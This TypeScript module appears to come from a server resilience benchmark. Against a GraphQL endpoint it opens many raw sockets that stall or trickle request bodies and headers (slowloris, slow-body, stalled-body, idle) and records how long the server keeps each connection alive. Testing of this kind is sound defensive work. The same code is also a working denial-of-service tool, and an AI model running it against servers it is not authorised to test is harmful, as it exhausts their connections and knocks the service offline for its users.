// The connection-level attacks, on raw sockets (node:net): what they send is not a well-formed
// request that an HTTP client would finish. Each opens `count` sockets at once, without any key:
//   stalled-body  POST /graphql with Content-Length 1,000,000, ~999,000 bytes of it at once, then nothing
//   slow-body     the same headers, then 1 KB of the body per second, never complete
//   slowloris     a request line and one more header line per second, never the blank line
//   idle          a connection that sends nothing
// The sockets are kept (and trickled) after the victim's measured time, until the server has
// closed them all or `watchSeconds` have passed, so the table can say how long the server keeps
// such a socket: the median time from connect to the server's close.
import net from "node:net";
import { errorName, Tally } from "./tally";

export type SocketAttackKind = "stalled-body" | "slow-body" | "slowloris" | "idle";

export interface SocketAttackResult {
  /** What each socket got: the server's answer status ("408"), "closed without answer", "open at end", or an error. */
  statuses: Tally;
  closed: number;
  count: number;
  /** Median lifetime in s; null when half or more were still open at the end. */
  medianSeconds: number | null;
  watchedSeconds: number;
}

const declaredLength = 1_000_000;
const stalledBytes = 999_000;
const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

function bodyHeaders(host: string): string {
  return `POST /graphql HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: ${declaredLength}\r\n\r\n`;
}

/** Writes `bytes` of a JSON-looking body in 64 KB pieces, waiting for drain: the bench does not buffer 400 MB itself. */
async function writeBody(socket: net.Socket, bytes: number, isOpen: () => boolean): Promise<void> {
  const piece = Buffer.alloc(64 * 1024, "x");
  const start = Buffer.from('{"query":"{__typename}","pad":"');
  socket.write(start);
  for (let sent = start.length; sent < bytes && isOpen(); ) {
    const n = Math.min(piece.length, bytes - sent);
    sent += n;
    if (!socket.write(n === piece.length ? piece : piece.subarray(0, n))) {
      await new Promise<void>((resolve) => {
        socket.once("drain", resolve);
        socket.once("close", resolve);
      });
    }
  }
}

interface Tracked {
  socket: net.Socket;
  openedAt: number;
  closedAt: number | null;
  outcome: string | null;
}

function open(kind: SocketAttackKind, host: string, port: number, stopTrickle: () => boolean): Promise<Tracked> {
  return new Promise((resolve) => {
    const socket = net.connect({ host, port });
    const tracked: Tracked = { socket, openedAt: performance.now(), closedAt: null, outcome: null };
    const isOpen = () => tracked.closedAt === null && !socket.destroyed;
    socket.setNoDelay(true);
    socket.on("data", (chunk: Buffer) => {
      // The server's answer: keep its status (408, 401, 413, ...).
      tracked.outcome ??= /^HTTP\/1\.[01] (\d{3})/.exec(chunk.toString("latin1", 0, 16))?.[1] ?? "answer";
    });
    socket.on("error", (error) => (tracked.outcome ??= errorName(error)));
    socket.on("close", () => {
      tracked.closedAt ??= performance.now();
      tracked.outcome ??= "closed without answer";
      // A refused connection (dead server) closes without connecting.
      resolve(tracked);
    });
    socket.once("connect", () => {
      tracked.openedAt = performance.now();
      resolve(tracked);
      const hostHeader = `${host}:${port}`;
      const trickle = async (write: (n: number) => void) => {
        for (let n = 0; isOpen() && !stopTrickle(); n++) {
          write(n);
          await sleep(1_000);
        }
      };
      if (kind === "stalled-body") {
        socket.write(bodyHeaders(hostHeader));
        void writeBody(socket, stalledBytes, isOpen);
      } else if (kind === "slow-body") {
        socket.write(bodyHeaders(hostHeader));
        const piece = Buffer.alloc(1024, "x");
        void trickle(() => socket.write(piece));
      } else if (kind === "slowloris") {
        socket.write(`GET /graphql HTTP/1.1\r\nHost: ${hostHeader}\r\n`);
        void trickle((n) => socket.write(`X-Trickle-${n}: ${n}\r\n`));
      }
    });
  });
}

/**
 * Opens the sockets, then waits for the signal (the measured time), then keeps watching until
 * every socket is closed or `watchSeconds` have passed since the first was opened.
 */
export async function socketAttack(
  url: string,
  kind: SocketAttackKind,
  options: { count: number; signal: AbortSignal; watchSeconds: number },
): Promise<SocketAttackResult> {
  const base = new URL(url);
  let stopped = false;
  const startedAt = performance.now();
  const sockets = await Promise.all(Array.from({ length: options.count }, () => open(kind, base.hostname, Number(base.port), () => stopped)));
  const allClosed = () => sockets.every((s) => s.closedAt !== null);
  const watchEnd = startedAt + options.watchSeconds * 1000;
  while (!allClosed() && (!options.signal.aborted || performance.now() < watchEnd)) await sleep(100);
  stopped = true;
  const endedAt = performance.now();
  const statuses = new Tally();
  const lifetimes: number[] = [];
  for (const s of sockets) {
    if (s.closedAt === null) {
      statuses.add(s.outcome ? `${s.outcome} (open at end)` : "open at end");
      lifetimes.push(Infinity);
      // Destroyed by the bench, not closed by the server: its lifetime stays "open at end".
      s.socket.destroy();
    } else {
      statuses.add(s.outcome ?? "closed without answer");
      lifetimes.push((s.closedAt - s.openedAt) / 1000);
    }
  }
  lifetimes.sort((a, b) => a - b);
  const median = lifetimes[Math.floor(lifetimes.length / 2)];
  return {
    statuses,
    closed: lifetimes.filter(Number.isFinite).length,
    count: sockets.length,
    medianSeconds: Number.isFinite(median) ? Math.round(median * 10) / 10 : null,
    watchedSeconds: Math.round((endedAt - startedAt) / 100) / 10,
  };
}
